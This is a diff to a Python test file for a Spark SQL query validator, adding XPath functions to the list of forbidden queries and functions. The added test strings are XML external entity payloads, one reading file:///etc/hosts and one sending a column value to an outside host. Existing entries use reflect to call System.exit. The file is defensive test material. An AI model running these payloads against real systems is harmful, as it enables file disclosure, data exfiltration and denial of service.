@@ -101,6 +101,8 @@ REACHING = (
     "select * from identifier('so' || 'urce')",
     "select identifier('re' || 'flect')('java.lang.System', 'exit', 1) from source",
     "select reflect('java.lang.System', 'exit', 1) from source",
+    """select xpath_string('<!DOCTYPE a SYSTEM "file:///etc/hosts"><a/>', 'a') from source""",
+    """select xpath(concat('<!DOCTYPE a SYSTEM "http://x/', key, '"><a/>'), 'a') from source""",
     "select Java_Method('java.lang.System', 'exit', 1) from source",
     "select try_reflect('java.lang.System', 'exit', 1) from source",
     "select builtin.reflect('java.lang.System', 'exit', 1) from source",
@@ -163,13 +165,13 @@ def test_several_statements_are_no_query(spark: "SparkSession") -> None:
 
 def test_no_function_of_spark_that_calls_java_or_reads_files_is_taken(spark: "SparkSession") -> None:
     """By the classes behind the names, so that a synonym in another version of Spark is found."""
-    reaching = ("Reflect", "Avro", "Protobuf")
+    reaching = ("Reflect", "Avro", "Protobuf", "XPath")
     found = {
         one.name
         for one in spark.catalog.listFunctions()
         if one.className and any(word in one.className.rpartition(".")[2] for word in reaching)
     }
-    assert {"reflect", "java_method", "try_reflect"} <= found
+    assert {"reflect", "java_method", "try_reflect", "xpath", "xpath_string"} <= found
     for name in found:
         with pytest.raises(ConfigError):
             check_query(spark.newSession(), f"select {name}(key, key, key) from source", "source")
